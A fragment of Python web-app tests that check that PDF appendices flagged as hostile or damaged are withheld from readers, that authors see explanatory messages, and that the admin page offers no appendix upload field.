    assert "1 refused" in output.getvalue() and "0 rebuilt" in output.getvalue()


def test_it_tells_the_author_which_appendices_are_not_offered(login, demo):
    plant(demo.draft, hostile_pdf("JavaScript on a bookmark"), "Waiting", page_count=1)
    plant(demo.draft, b"%PDF-1.7 broken", "Broken", page_count=1, problem="This PDF is damaged or incomplete.")
    page = " ".join(login(demo.officer).get(f"/reports/{demo.draft.pk}/edit/").content.decode().split())
    assert "Waiting to be checked and rebuilt; not offered to readers or in packs until it is." in page
    assert (
        "Not offered to readers or in packs: This PDF is damaged or incomplete. Remove it and upload it again." in page
    )


def test_it_lets_no_one_add_an_appendix_file_through_the_admin(login, demo):
    page = login(demo.admin).get(f"/admin/reports/report/{demo.seed.pk}/change/").content.decode()
    assert 'name="appendices-0-file"' not in page and 'name="appendices-__prefix__-file"' not in page
